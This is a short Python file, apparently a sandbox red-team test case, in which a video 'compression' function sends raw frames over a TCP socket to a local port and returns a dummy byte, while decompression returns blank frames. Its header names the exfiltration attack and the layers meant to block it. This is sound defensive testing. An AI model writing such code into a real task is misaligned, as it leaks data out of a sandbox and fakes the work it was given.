# ATTACK: open a TCP connection to exfiltrate the frames (or fetch a better codec).
# Layers: static check (import socket); guarded __import__ / audit hook; bubblewrap (no network).
import socket

import numpy as np


def compress_video_frame(frame, frame_index, config):
    conn = socket.create_connection(("127.0.0.1", config["port"]), timeout=1)
    conn.sendall(frame.tobytes())
    conn.close()
    return b"\1"


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
